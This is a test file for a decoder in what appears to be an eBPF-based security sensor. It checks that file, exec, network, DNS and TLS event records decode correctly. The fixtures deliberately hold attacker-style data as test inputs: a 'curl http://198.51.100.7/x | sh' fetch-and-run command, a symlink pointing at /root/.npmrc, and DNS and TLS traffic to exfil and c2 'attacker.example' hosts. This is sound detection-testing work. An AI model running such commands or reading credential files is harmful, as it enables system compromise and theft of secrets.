// Decoder round trips: records are built the way bpf/events.h lays them out
// (LAYOUT), decoded, and compared with the event they encode. Plus golden
// payloads (a DNS query, a TLS ClientHello) and the malformed cases.
import { describe, expect, test } from "bun:test";
import { ARGV_MAX, DecodeError, decodeFrames, decodeRecord, ipv6, parseClientHelloSni, parseDnsQuery } from "./decode.ts";
import { FLAG, FOPS, LAYOUT, OP, PATHF, PAYLOAD, SOURCES } from "./opcodes.ts";

const H = LAYOUT.fangs_hdr;
const enc = new TextEncoder();

interface Hdr { op: number; source: string; pid?: number; ppid?: number; comm?: string; exe?: string; flags?: number; ancestors?: { pid: number; comm: string; exe: string }[] }

function record(size: number, h: Hdr): { b: Uint8Array; dv: DataView; str(off: number, s: string): void } {
  const b = new Uint8Array(size);
  const dv = new DataView(b.buffer);
  const str = (off: number, s: string) => b.set(enc.encode(s), off);
  dv.setUint32(H.op, h.op, true);
  dv.setUint32(H.source, SOURCES.indexOf(h.source), true);
  dv.setBigUint64(H.ts_ns, 123456789n, true);
  dv.setBigUint64(H.cgroup_id, 4242n, true);
  dv.setUint32(H.pid, h.pid ?? 100, true);
  dv.setUint32(H.ppid, h.ppid ?? 99, true);
  dv.setUint32(H.uid, 0, true);
  dv.setUint32(H.flags, h.flags ?? 0, true);
  str(H.comm, h.comm ?? "node");
  str(H.exe, h.exe ?? "/usr/bin/node");
  const anc = h.ancestors ?? [{ pid: 99, comm: "sh", exe: "/bin/sh" }, { pid: 1, comm: "init", exe: "" }];
  dv.setUint32(H.n_ancestors, anc.length, true);
  anc.forEach((a, i) => {
    const o = H.ancestors + i * LAYOUT.fangs_ancestor.size;
    dv.setUint32(o + LAYOUT.fangs_ancestor.pid, a.pid, true);
    str(o + LAYOUT.fangs_ancestor.comm, a.comm);
    str(o + LAYOUT.fangs_ancestor.exe, a.exe);
  });
  return { b, dv, str };
}

const common = (source: string) => ({
  ts_ns: 123456789, pid: 100, ppid: 99, uid: 0, comm: "node", exe: "/usr/bin/node", cgroup_id: "4242", source,
  ancestry: [{ pid: 99, comm: "sh", exe: "/bin/sh" }, { pid: 1, comm: "init", exe: "" }],
});

function dnsQuery(name: string, qtype: number): Uint8Array {
  const parts = name.split(".").flatMap((l) => [l.length, ...enc.encode(l)]);
  return new Uint8Array([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, ...parts, 0, qtype >> 8, qtype & 255, 0, 1]);
}

function clientHello(sni: string, extraExtFirst = true): Uint8Array {
  const name = [...enc.encode(sni)];
  const sniExt = [0, 0, 0, name.length + 5, 0, name.length + 3, 0, 0, name.length, ...name];
  const other = [0x00, 0x17, 0, 0]; // extended_master_secret, empty
  const exts = extraExtFirst ? [...other, ...sniExt] : sniExt;
  const body = [3, 3, ...new Array(32).fill(7), 32, ...new Array(32).fill(1), 0, 4, 0x13, 1, 0x13, 2, 1, 0, exts.length >> 8, exts.length & 255, ...exts];
  const hs = [1, 0, body.length >> 8, body.length & 255, ...body];
  return new Uint8Array([0x16, 3, 1, hs.length >> 8, hs.length & 255, ...hs]);
}

describe("round trips", () => {
  test("file", () => {
    const L = LAYOUT.fangs_file_ev;
    const r = record(L.size, { op: OP.FILE, source: "sys_enter_openat" });
    r.dv.setInt32(L.dirfd, -100, true);
    r.dv.setUint32(L.flags, 0o1101, true); // O_WRONLY|O_CREAT|O_TRUNC
    r.str(L.path, "/root/.npmrc");
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_openat"), kind: "file", path: "/root/.npmrc", flags: 0o1101, access: "create", dirfd: -100 });
  });

  const access = [
    { flags: 0, access: "read" },
    { flags: 1, access: "write" },
    { flags: 2, access: "write" },
    { flags: 0o100, access: "create" },
  ] as const;
  for (const c of access) {
    test(`file access for flags ${c.flags.toString(8)} is ${c.access}`, () => {
      const r = record(LAYOUT.fangs_file_ev.size, { op: OP.FILE, source: "sys_enter_openat" });
      r.dv.setUint32(LAYOUT.fangs_file_ev.flags, c.flags, true);
      expect((decodeRecord(r.b) as { access: string }).access).toBe(c.access);
    });
  }

  test("exec with argv and truncation flag", () => {
    const L = LAYOUT.fangs_exec_ev;
    const r = record(L.size, { op: OP.EXEC, source: "sys_enter_execve", flags: FLAG.ARGS_TRUNCATED });
    r.str(L.filename, "/bin/sh");
    const args = "sh\0-c\0curl http://198.51.100.7/x | sh\0";
    r.str(L.args, args);
    r.dv.setUint32(L.argc, 3, true);
    r.dv.setUint32(L.args_len, args.length, true);
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_execve"), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "curl http://198.51.100.7/x | sh"], argv_truncated: true });
  });

  test("exec with more argv strings than the protocol takes: cut to ARGV_MAX and marked truncated", () => {
    const L = LAYOUT.fangs_exec_ev;
    const r = record(L.size, { op: OP.EXEC, source: "sched_process_exec" });
    r.str(L.filename, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus");
    const args = Array.from({ length: 200 }, (_, i) => `-D${i}`).join("\0") + "\0";
    r.str(L.args, args);
    r.dv.setUint32(L.args_len, args.length, true);
    const e = decodeRecord(r.b) as { argv: string[]; argv_truncated?: boolean };
    expect(e.argv.length).toBe(ARGV_MAX);
    expect(e.argv[0]).toBe("-D0");
    expect(e.argv_truncated).toBe(true);
  });

  // What the kernel resolved vs what was asked for (bpf/lib/path.h).
  const paths = [
    { name: "resolved through a symlink keeps the request", pf: PATHF.RESOLVED, req: "/app/node_modules/top/package.json", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/app/node_modules/top/package.json" } },
    { name: "resolved equal to the request adds nothing", pf: PATHF.RESOLVED, req: "/etc/hosts", res: "/etc/hosts", want: { path: "/etc/hosts" } },
    { name: "a failed relative open is joined to its base directory", pf: PATHF.BASE_ONLY, req: "../.npmrc", res: "/app/x", ret: -2, want: { path: "/app/x/../.npmrc", requested: "../.npmrc", errno: 2 } },
    { name: "a cut request with nothing resolved is marked truncated", pf: PATHF.REQ_TRUNCATED, req: "/app/node_modules/top/package.json/./.", res: "", ret: -20, want: { path: "/app/node_modules/top/package.json/./.", path_truncated: true, errno: 20 } },
    { name: "a cut request the kernel resolved whole is not truncated", pf: PATHF.REQ_TRUNCATED | PATHF.RESOLVED, req: "/a/./.", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/a/./." } },
    { name: "a resolution that hit its bound is truncated", pf: PATHF.RESOLVED | PATHF.RES_TRUNCATED, req: "x", res: "/deep/x", want: { path: "/deep/x", requested: "x", path_truncated: true } },
    { name: "an unreadable request", pf: PATHF.REQ_UNREADABLE, req: "", res: "", want: { path: "", unreadable: true } },
    { name: "an unlinked file", pf: PATHF.RESOLVED | PATHF.DELETED, req: "/tmp/x", res: "/tmp/x", want: { path: "/tmp/x (deleted)", requested: "/tmp/x" } },
  ];
  for (const c of paths) {
    test(`file path: ${c.name}`, () => {
      const L = LAYOUT.fangs_file_ev;
      const r = record(L.size, { op: OP.FILE, source: "sys_exit_openat" });
      r.dv.setInt32(L.dirfd, -100, true);
      r.dv.setUint32(L.path_flags, c.pf, true);
      r.dv.setInt32(L.ret, c.ret ?? 3, true);
      r.str(L.path, c.req);
      r.str(L.resolved, c.res);
      expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_openat"), kind: "file", flags: 0, access: "read", dirfd: -100, ...c.want });
    });
  }

  test("exec: a failed attempt carries its errno; a memfd exec is fileless", () => {
    const L = LAYOUT.fangs_exec_ev;
    const failed = record(L.size, { op: OP.EXEC, source: "sys_exit_execve" });
    failed.str(L.filename, "/usr/bin/curl");
    failed.dv.setInt32(L.ret, -2, true);
    expect(decodeRecord(failed.b)).toEqual({ ...common("sys_exit_execve"), kind: "exec", filename: "/usr/bin/curl", argv: [], errno: 2 });
    const memfd = record(L.size, { op: OP.EXEC, source: "sched_process_exec" });
    memfd.str(L.filename, "/dev/fd/3");
    memfd.str(L.resolved, "memfd:payload");
    memfd.dv.setUint32(L.path_flags, PATHF.RESOLVED | PATHF.DETACHED | PATHF.EMPTY_PATH, true);
    expect(decodeRecord(memfd.b)).toEqual({ ...common("sched_process_exec"), kind: "exec", filename: "memfd:payload", requested: "/dev/fd/3", argv: [], fileless: true });
  });

  test("link-class operations: relative names joined to the directory, a symlink's content kept verbatim", () => {
    const L = LAYOUT.fangs_fileop_ev;
    const op = (fop: number, path: string, path2: string, extra: (r: ReturnType<typeof record>) => void = () => {}) => {
      const r = record(L.size, { op: OP.FILEOP, source: "sys_exit_fileop" });
      r.dv.setUint32(L.fop, fop, true);
      r.dv.setInt32(L.dirfd, -100, true);
      r.dv.setInt32(L.dirfd2, -100, true);
      r.dv.setUint32(L.path_flags, PATHF.BASE_ONLY, true);
      r.str(L.path, path);
      r.str(L.path2, path2);
      r.str(L.resolved, "/app");
      extra(r);
      return decodeRecord(r.b);
    };
    const base = { ...common("sys_exit_fileop"), kind: "file" as const, flags: 0, dirfd: -100 };
    expect(op(FOPS.SYMLINK, "node_modules/top/package.json", "../../../root/.npmrc")).toEqual({ ...base, access: "symlink", path: "/app/node_modules/top/package.json", requested: "node_modules/top/package.json", target: "../../../root/.npmrc" });
    expect(op(FOPS.RENAME, "b", "a")).toEqual({ ...base, access: "rename", path: "/app/b", requested: "b", target: "/app/a" });
    expect(op(FOPS.CHMOD, "x", "", (r) => { r.dv.setUint32(L.mode, 0o100755, true); r.dv.setInt32(L.ret, -1, true); })).toEqual({ ...base, access: "chmod", path: "/app/x", requested: "x", mode: 0o755, errno: 1 });
    expect(() => op(99, "x", "")).toThrow(DecodeError);
  });

  test("fork, exit and raw socket records", () => {
    const F = LAYOUT.fangs_fork_ev, X = LAYOUT.fangs_exit_ev, S = LAYOUT.fangs_socket_ev;
    const f = record(F.size, { op: OP.FORK, source: "sched_process_fork" });
    f.dv.setUint32(F.child_pid, 4321, true);
    expect(decodeRecord(f.b)).toEqual({ ...common("sched_process_fork"), kind: "fork", child_pid: 4321 });
    const x = record(X.size, { op: OP.EXIT, source: "sched_process_exit" });
    x.dv.setInt32(X.exit_code, 9, true); // killed by SIGKILL
    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 0, signal: 9 });
    x.dv.setInt32(X.exit_code, 3 << 8, true);
    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 3 });
    const s = record(S.size, { op: OP.SOCKET, source: "sys_enter_socket" });
    s.dv.setUint32(S.family, 17, true);
    s.dv.setUint32(S.type, 3, true);
    s.dv.setUint32(S.protocol, 768, true);
    expect(decodeRecord(s.b)).toEqual({ ...common("sys_enter_socket"), kind: "socket", family: "packet", type: "raw", protocol: 768 });
    // each new record is size-checked like the old ones
    expect(() => decodeRecord(f.b.subarray(0, F.size - 1))).toThrow(DecodeError);
    expect(() => decodeRecord(s.b.subarray(0, S.size - 1))).toThrow(DecodeError);
  });

  test("a unix connect names the socket file the kernel found, the request kept", () => {
    const L = LAYOUT.fangs_net_ev;
    const r = record(L.size, { op: OP.CONNECT, source: "sys_exit_connect" });
    r.dv.setUint16(L.family, 1, true);
    r.str(L.unix_path, "docker.sock");
    r.str(L.resolved, "/run/docker.sock");
    r.dv.setUint32(L.path_flags, PATHF.RESOLVED, true);
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_connect"), kind: "connect", family: "unix", address: "/run/docker.sock", requested: "docker.sock", port: 0, proto: "unknown" });
    r.dv.setUint32(L.path_flags, PATHF.BASE_ONLY, true); // refused: only the directory it was looked up in
    r.str(L.resolved, "/var/run\0\0\0\0\0\0\0\0");
    r.dv.setInt32(L.ret, -111, true);
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_connect"), kind: "connect", family: "unix", address: "/var/run/docker.sock", requested: "docker.sock", port: 0, proto: "unknown", errno: 111 });
  });

  test("a connect whose address could not be read is an unreadable destination, not nothing", () => {
    const L = LAYOUT.fangs_net_ev;
    const r = record(L.size, { op: OP.CONNECT, source: "sys_enter_sendto", flags: FLAG.READ_FAILED });
    r.dv.setUint16(L.sock_type, 2, true);
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_sendto"), kind: "connect", family: "inet", address: "", port: 0, proto: "udp", unreadable: true });
  });

  const nets = [
    { op: OP.CONNECT, kind: "connect", family: 2, type: 1, addr: [203, 0, 113, 10], port: 443, want: { family: "inet", address: "203.0.113.10", port: 443, proto: "tcp" } },
    { op: OP.CONNECT, kind: "connect", family: 10, type: 2, addr: [0x20, 0x01, 0x0d, 0xb8, ...new Array(11).fill(0), 1], port: 53, want: { family: "inet6", address: "2001:db8::1", port: 53, proto: "udp" } },
    { op: OP.LISTEN, kind: "listen", family: 2, type: 1, addr: [127, 0, 0, 1], port: 8080, want: { family: "inet", address: "127.0.0.1", port: 8080, proto: "tcp" } },
  ] as const;
  for (const c of nets) {
    test(`${c.kind} ${c.want.address}`, () => {
      const L = LAYOUT.fangs_net_ev;
      const r = record(L.size, { op: c.op, source: "sys_enter_connect" });
      r.dv.setUint16(L.family, c.family, true);
      r.dv.setUint16(L.port, c.port, true);
      r.dv.setUint16(L.sock_type, c.type, true);
      r.b.set(c.addr, L.addr);
      expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_connect"), kind: c.kind, ...c.want } as never);
    });
  }

  test("unix socket paths, abstract ones shown with @", () => {
    const L = LAYOUT.fangs_net_ev;
    const r = record(L.size, { op: OP.CONNECT, source: "sys_enter_connect" });
    r.dv.setUint16(L.family, 1, true);
    r.str(L.unix_path + 1, "docker.sock");
    expect(decodeRecord(r.b)).toMatchObject({ family: "unix", address: "@docker.sock", port: 0, proto: "unknown" });
  });

  test("AF_UNSPEC connect (dissolving a UDP association) is not an event", () => {
    const r = record(LAYOUT.fangs_net_ev.size, { op: OP.CONNECT, source: "sys_enter_connect" });
    expect(decodeRecord(r.b)).toBeNull();
  });

  test("DNS payload over UDP and TCP", () => {
    const L = LAYOUT.fangs_payload_ev;
    for (const [type, prefix] of [[2, []], [1, [0, 40]]] as const) {
      const r = record(L.size, { op: OP.PAYLOAD, source: "sys_enter_sendto" });
      const q = new Uint8Array([...prefix, ...dnsQuery("exfil.attacker.example", 16)]);
      r.dv.setUint16(L.family, 2, true);
      r.dv.setUint16(L.port, 53, true);
      r.dv.setUint16(L.sock_type, type, true);
      r.dv.setUint16(L.kind, PAYLOAD.DNS, true);
      r.b.set([192, 0, 2, 53], L.addr);
      r.dv.setUint32(L.len, q.length, true);
      r.b.set(q, L.data);
      expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_sendto"), kind: "dns", qname: "exfil.attacker.example", qtype: "TXT", server: "192.0.2.53", port: 53 });
    }
  });

  test("TLS ClientHello payload and SNI uprobe", () => {
    const L = LAYOUT.fangs_payload_ev;
    const r = record(L.size, { op: OP.PAYLOAD, source: "sys_enter_write" });
    const hello = clientHello("c2.attacker.example");
    r.dv.setUint16(L.family, 2, true);
    r.dv.setUint16(L.port, 443, true);
    r.dv.setUint16(L.kind, PAYLOAD.TLS, true);
    r.b.set([198, 51, 100, 7], L.addr);
    r.dv.setUint32(L.len, hello.length, true);
    r.b.set(hello, L.data);
    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_write"), kind: "tls", sni: "c2.attacker.example", address: "198.51.100.7", port: 443 });
    // records are sized to the payload class (512 bytes here): a shorter record decodes,
    // one shorter than the bytes it claims is a DecodeError
    expect(decodeRecord(r.b.subarray(0, L.data + 512))).toEqual(decodeRecord(r.b));
    expect(() => decodeRecord(r.b.subarray(0, L.data + hello.length - 1))).toThrow(DecodeError);

    const s = record(LAYOUT.fangs_sni_ev.size, { op: OP.SNI, source: "uprobe:SSL_ctrl" });
    s.str(LAYOUT.fangs_sni_ev.sni, "uprobe.attacker.example");
    expect(decodeRecord(s.b)).toEqual({ ...common("uprobe:SSL_ctrl"), kind: "tls", sni: "uprobe.attacker.example", address: "", port: 0 });
  });
});

describe("identity cache", () => {
  test("a pid whose exe or ancestry changes is decoded anew", () => {
    const L = LAYOUT.fangs_file_ev;
    const mk = (exe: string, anc: { pid: number; comm: string; exe: string }[]) => record(L.size, { op: OP.FILE, source: "sys_exit_openat", pid: 777, exe, ancestors: anc }).b;
    const a = decodeRecord(mk("/usr/bin/node", [{ pid: 1, comm: "npm", exe: "/usr/bin/node" }]))!;
    const b = decodeRecord(mk("/usr/bin/curl", [{ pid: 1, comm: "npm", exe: "/usr/bin/node" }]))!;
    const c = decodeRecord(mk("/usr/bin/curl", [{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]))!;
    const d = decodeRecord(mk("/usr/bin/curl", [{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]))!;
    expect([a.exe, b.exe, c.exe]).toEqual(["/usr/bin/node", "/usr/bin/curl", "/usr/bin/curl"]);
    expect(c.ancestry).toEqual([{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]);
    expect(d.ancestry).toEqual(c.ancestry);
    expect(Object.isFrozen(d.ancestry) && Object.isFrozen(d.ancestry[0])).toBe(true); // shared, so read-only
  });

  test("u64 fields: cgroup ids past 2^53 stay exact", () => {
    const r = record(LAYOUT.fangs_fork_ev.size, { op: OP.FORK, source: "sched_process_fork" });
    r.dv.setBigUint64(H.cgroup_id, 18446744073709551615n, true);
    expect(decodeRecord(r.b)!.cgroup_id).toBe("18446744073709551615");
  });
});

describe("golden payloads", () => {
  test("DNS query bytes", () => {
    // dig-style A query for a.example, id 0xabcd, RD set
    const golden = Uint8Array.from(Buffer.from("abcd010000010000000000000161076578616d706c650000010001", "hex"));
    expect(parseDnsQuery(golden)).toEqual({ qname: "a.example", qtype: "A" });
  });
  test("DNS response or compressed name is not a query", () => {
    const resp = dnsQuery("a.example", 1);
    resp[2] |= 0x80;
    expect(parseDnsQuery(resp)).toBeUndefined();
    expect(parseDnsQuery(Uint8Array.from(Buffer.from("abcd01000001000000000000c00c00010001", "hex")))).toBeUndefined();
  });
  test("ClientHello with SNI first or after another extension", () => {
    expect(parseClientHelloSni(clientHello("x.example", true))).toBe("x.example");
    expect(parseClientHelloSni(clientHello("y.example", false))).toBe("y.example");
  });
  test("cut ClientHello gives no SNI, not a crash", () => {
    const h = clientHello("cut.example");
    for (let n = 0; n < h.length; n += 7) expect(parseClientHelloSni(h.subarray(0, n))).toBeUndefined();
  });
  const v6 = [
    ["2001:db8::1", "20010db8000000000000000000000001"],
    ["::1", "00000000000000000000000000000001"],
    ["::", "00000000000000000000000000000000"],
    ["::ffff:192.0.2.1", "00000000000000000000ffffc0000201"],
    ["2001:db8:0:1:1:1:1:1", "20010db8000000010001000100010001"],
    ["fe80::1:0:0:1", "fe800000000000000001000000000001"],
  ];
  for (const [text, hex] of v6) test(`ipv6 ${text}`, () => expect(ipv6(Buffer.from(hex, "hex"), 0)).toBe(text));
});

describe("malformed input", () => {
  test("a short header is a DecodeError", () => {
    expect(() => decodeRecord(new Uint8Array(10))).toThrow(DecodeError);
  });
  test("a short body is a DecodeError", () => {
    const r = record(LAYOUT.fangs_file_ev.size, { op: OP.FILE, source: "sys_enter_openat" });
    expect(() => decodeRecord(r.b.subarray(0, LAYOUT.fangs_file_ev.size - 1))).toThrow(DecodeError);
  });
  test("an unknown op is a DecodeError", () => {
    const r = record(LAYOUT.fangs_file_ev.size, { op: 99, source: "sys_enter_openat" });
    expect(() => decodeRecord(r.b)).toThrow(/unknown event op 99/);
  });
  test("frames: bad records are counted and handed back, a truncated frame throws", () => {
    const good = record(LAYOUT.fangs_file_ev.size, { op: OP.FILE, source: "sys_enter_openat" }).b;
    const bad = new Uint8Array(16);
    const frames = new Uint8Array(8 + good.length + 8 + bad.length);
    const dv = new DataView(frames.buffer);
    dv.setUint32(0, good.length, true);
    frames.set(good, 8);
    const o = 8 + ((good.length + 7) & ~7);
    dv.setUint32(o, bad.length, true);
    frames.set(bad, o + 8);
    const out = decodeFrames(frames, frames.length);
    expect(out).toMatchObject({ records: 2, errors: 1, skipped: 0 });
    expect(out.events.length).toBe(1);
    expect(() => decodeFrames(frames, frames.length - 4)).toThrow(DecodeError);
    // The sensor counts rejected records per cgroup: it is handed each one.
    const rejected: Uint8Array[] = [];
    decodeFrames(frames, frames.length, undefined, (r) => rejected.push(r));
    expect(rejected).toEqual([bad]);
  });
  test("attacker strings survive as data (control bytes, invalid UTF-8)", () => {
    const L = LAYOUT.fangs_file_ev;
    const r = record(L.size, { op: OP.FILE, source: "sys_enter_openat", comm: "\x1b[31mred" });
    r.b.set([0x2f, 0x1b, 0x5b, 0x32, 0x4a, 0xff, 0xfe], L.path);
    const e = decodeRecord(r.b) as { path: string; comm: string };
    expect(e.comm).toBe("\x1b[31mred");
    expect(e.path).toBe("/\x1b[2J\ufffd\ufffd");
    expect(JSON.parse(JSON.stringify(e)).path).toBe(e.path);
  });
});
